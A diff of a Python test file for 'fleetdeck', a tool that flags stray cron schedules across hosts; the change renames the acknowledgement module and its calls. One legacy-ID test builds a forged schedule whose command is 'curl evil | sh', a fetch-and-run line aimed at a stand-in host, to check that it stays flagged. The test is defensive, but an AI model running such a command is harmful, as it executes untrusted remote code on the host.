@@ -12,8 +12,8 @@ from pathlib import Path
 import pytest
 from test_schedules_cli import install_crontab, local_fleet, root_crontab, run_cli  # noqa: F401
 
-from fleetdeck.backend import acks
-from fleetdeck.backend.models import HostSnapshot, Schedule
+from fleetdeck.backend.fleet import schedule_verdict
+from fleetdeck.backend.fleet.models import HostSnapshot, Schedule
 
 needs_crontab = pytest.mark.skipif(shutil.which("crontab") is None, reason="cron's crontab is not installed")
 TEN = [f"{i} 5 * * * /usr/bin/true ack-race-{i}" for i in range(10)]
@@ -21,7 +21,7 @@ LINE = "41 7 * * * /usr/bin/true fleet-wide-verdict-7c1"
 
 
 def fleetdeck(*argv: str) -> subprocess.Popen:
-    return subprocess.Popen([sys.executable, "-m", "fleetdeck.tui.cli", *argv], stdout=subprocess.PIPE,
+    return subprocess.Popen([sys.executable, "-m", "fleetdeck.cli.main", *argv], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, env=dict(os.environ))
 
 
@@ -38,13 +38,13 @@ def test_ten_parallel_ack_processes_keep_all_ten(root_crontab, tmp_path, capsys)
     for p in procs:
         o, e = p.communicate(timeout=300)
         assert p.returncode == 0, e.decode()
-    stored = acks.load_acks()
+    stored = schedule_verdict.load_acks()
     assert all(stored.covers("local", i) for i in ids), stored
 
 
 def _ack_many(base: str, n: int) -> None:
     for k in range(n):
-        acks.acknowledge(on_host=[("h", f"{base}-{k}")])
+        schedule_verdict.acknowledge(on_host=[("h", f"{base}-{k}")])
 
 
 def test_concurrent_acknowledge_calls_lose_nothing():
@@ -58,17 +58,17 @@ def test_concurrent_acknowledge_calls_lose_nothing():
     for p in procs:
         p.join(120)
         assert p.exitcode == 0
-    stored = acks.load_acks()
+    stored = schedule_verdict.load_acks()
     assert len(stored.on_host) == 300
-    assert not list(Path(acks.acks_path()).parent.glob(".acknowledged.json.*.tmp"))
+    assert not list(Path(schedule_verdict.acks_path()).parent.glob(".acknowledged.json.*.tmp"))
 
 
 def test_old_acknowledgement_files_still_count_on_every_host():
-    acks.acks_path().write_text(json.dumps({"ids": ["c-1"]}))
-    got = acks.load_acks()
+    schedule_verdict.acks_path().write_text(json.dumps({"ids": ["c-1"]}))
+    got = schedule_verdict.load_acks()
     assert got.covers("any-host", "c-1") and not got.covers("any-host", "c-2")
-    acks.acknowledge(on_host=[("h2", "c-2")])
-    assert acks.load_acks().covers("x", "c-1") and acks.load_acks().covers("h2", "c-2")
+    schedule_verdict.acknowledge(on_host=[("h2", "c-2")])
+    assert schedule_verdict.load_acks().covers("x", "c-1") and schedule_verdict.load_acks().covers("h2", "c-2")
 
 
 def test_verdict_acknowledged_clears_duplicate_and_system_is_never_stray():
@@ -81,17 +81,17 @@ def test_verdict_acknowledged_clears_duplicate_and_system_is_never_stray():
         sched("c-3", "a", "run-parts /etc/cron.daily", system=True)))
     b = HostSnapshot(name="b", reachable=True, schedules=(
         sched("c-1", "b", "check on the run"), sched("c-4", "b", "run-parts /etc/cron.daily")))
-    got = acks.Acks(on_host=frozenset({("a", "c-1"), ("a", "c-2")}))
-    out = {(s.host, s.id): s for h in acks.mark_stray([a, b], got) for s in h.schedules}
+    got = schedule_verdict.Acks(on_host=frozenset({("a", "c-1"), ("a", "c-2")}))
+    out = {(s.host, s.id): s for h in schedule_verdict.mark_stray([a, b], got) for s in h.schedules}
     assert out["a", "c-1"].reasons == () and not out["a", "c-1"].stray  # acknowledged: duplicate cleared
     assert out["b", "c-1"].reasons == ("unacknowledged", "duplicate")  # the same id on b is b's own
     assert out["a", "c-2"].reasons == ("dead-target",) and out["a", "c-2"].stray  # a missing path stays
     assert not out["a", "c-3"].stray and out["a", "c-3"].reasons == ()
     assert out["b", "c-4"].reasons == ("unacknowledged",)  # a system twin makes nothing a duplicate
-    order = [(s.host, s.id) for s in acks.stray_first(out.values())]
+    order = [(s.host, s.id) for s in schedule_verdict.stray_first(out.values())]
     assert order[0] == ("a", "c-2") and order[-1] == ("a", "c-3")
-    assert acks.why(out["b", "c-1"], out.values()) == "the same command runs 1 more time (on a)"
-    everywhere = {(s.host, s.id): s for h in acks.mark_stray([a, b], acks.Acks(everywhere=frozenset({"c-1"})))
+    assert schedule_verdict.why(out["b", "c-1"], out.values()) == "the same command runs 1 more time (on a)"
+    everywhere = {(s.host, s.id): s for h in schedule_verdict.mark_stray([a, b], schedule_verdict.Acks(everywhere=frozenset({"c-1"})))
                   for s in h.schedules}
     assert not everywhere["a", "c-1"].stray and not everywhere["b", "c-1"].stray
 
@@ -119,7 +119,7 @@ def test_verdict_is_fleet_wide_and_ack_per_host_or_all_hosts(root_crontab, sshd_
 
     rc, _, err = run_cli(["--hosts", hosts, "schedules", "ack", sid], capsys)
     assert rc == 1 and "h1, h2" in err and "--all-hosts" in err and "Traceback" not in err
-    assert acks.load_acks() == acks.Acks()
+    assert schedule_verdict.load_acks() == schedule_verdict.Acks()
 
     rc, _, err = run_cli(["--hosts", hosts, "schedules", "ack", sid, "--host", "h1"], capsys)
     assert rc == 0, err
@@ -131,12 +131,12 @@ def test_verdict_is_fleet_wide_and_ack_per_host_or_all_hosts(root_crontab, sshd_
     assert rc == 0, err
     now = entries()
     assert not now["h1"]["stray"] and not now["h2"]["stray"]
-    assert acks.load_acks().covers("h3", sid)  # a host added later is covered too
+    assert schedule_verdict.load_acks().covers("h3", sid)  # a host added later is covered too
 
 
 def test_a_legacy_id_covers_the_one_schedule_it_starts_and_is_rewritten_to_the_full_id():
-    from fleetdeck.backend.probe_common import _sid as legacy_sid
-    from fleetdeck.backend.probe_schedules import _sid
+    from fleetdeck.backend.host.probe.common import _sid as legacy_sid
+    from fleetdeck.backend.host.probe.schedules import _sid
 
     def sched(sid: str, cmd: str) -> Schedule:
         return Schedule(id=sid, host="a", kind="crontab", user="u", spec="37 * * * *", command=cmd,
@@ -144,15 +144,15 @@ def test_a_legacy_id_covers_the_one_schedule_it_starts_and_is_rewritten_to_the_f
 
     key = ("crontab", "u", "crontab -l", "37 * * * *", "check on the run")
     wide, old = _sid("c-", *key), legacy_sid("c-", *key)
-    assert len(wide) == 34 and wide.startswith(old) and acks.LEGACY_ID.match(old)
-    acks.acks_path().write_text(json.dumps({"ids": [], "hosts": {"a": [old]}}))   # a file from before
+    assert len(wide) == 34 and wide.startswith(old) and schedule_verdict.LEGACY_ID.match(old)
+    schedule_verdict.acks_path().write_text(json.dumps({"ids": [], "hosts": {"a": [old]}}))   # a file from before
     host = HostSnapshot(name="a", reachable=True, schedules=(sched(wide, "check on the run"),))
-    (got,) = acks.mark_stray([host])
+    (got,) = schedule_verdict.mark_stray([host])
     assert not got.schedules[0].stray
-    assert json.loads(acks.acks_path().read_text())["hosts"] == {"a": [wide]}, "migrated on first use"
+    assert json.loads(schedule_verdict.acks_path().read_text())["hosts"] == {"a": [wide]}, "migrated on first use"
     # from now on only the full id silences it: a schedule made to share the 40-bit start does not
     forged = sched(wide[:12] + "0" * 22, "curl evil | sh")
-    (got,) = acks.mark_stray([HostSnapshot(name="a", reachable=True, schedules=(host.schedules[0], forged))])
+    (got,) = schedule_verdict.mark_stray([HostSnapshot(name="a", reachable=True, schedules=(host.schedules[0], forged))])
     assert [s.stray for s in got.schedules] == [False, True]
 
 
@@ -161,12 +161,12 @@ def test_a_legacy_id_covers_one_schedule_it_starts_and_neither_of_two():
     twin = "c-0123456789" + "b" * 22
     scheds = tuple(Schedule(id=i, host="a", kind="crontab", user="u", spec="* * * * *", command=f"x {i}",
                             source="crontab -l") for i in (wide, twin))
-    legacy = acks.Acks(everywhere=frozenset({"c-0123456789"}))
-    (one,) = acks.mark_stray([HostSnapshot(name="a", reachable=True, schedules=scheds[:1])], legacy)
+    legacy = schedule_verdict.Acks(everywhere=frozenset({"c-0123456789"}))
+    (one,) = schedule_verdict.mark_stray([HostSnapshot(name="a", reachable=True, schedules=scheds[:1])], legacy)
     assert not one.schedules[0].stray
-    (got,) = acks.mark_stray([HostSnapshot(name="a", reachable=True, schedules=scheds)], legacy)
+    (got,) = schedule_verdict.mark_stray([HostSnapshot(name="a", reachable=True, schedules=scheds)], legacy)
     assert all(s.stray and "unacknowledged" in s.reasons for s in got.schedules)
-    assert not acks.acks_path().exists(), "an Acks given by the caller is never written back"
+    assert not schedule_verdict.acks_path().exists(), "an Acks given by the caller is never written back"
 
 
 @needs_crontab
@@ -185,8 +185,8 @@ def test_an_acknowledgement_file_from_before_wide_ids_still_silences_its_crontab
     first = entry()
     sid = first["id"]
     assert first["stray"] and len(sid) == 34
-    acks.acks_path().write_text(json.dumps({"ids": [sid[:12]]}))   # what an older fleetdeck stored
+    schedule_verdict.acks_path().write_text(json.dumps({"ids": [sid[:12]]}))   # what an older fleetdeck stored
     assert not entry()["stray"]
-    assert json.loads(acks.acks_path().read_text())["ids"] == [sid]
+    assert json.loads(schedule_verdict.acks_path().read_text())["ids"] == [sid]
     rc, _, err = run_cli(["--hosts", hosts, "schedules", "ack", sid], capsys)   # the wide id is taken
     assert rc == 0, err
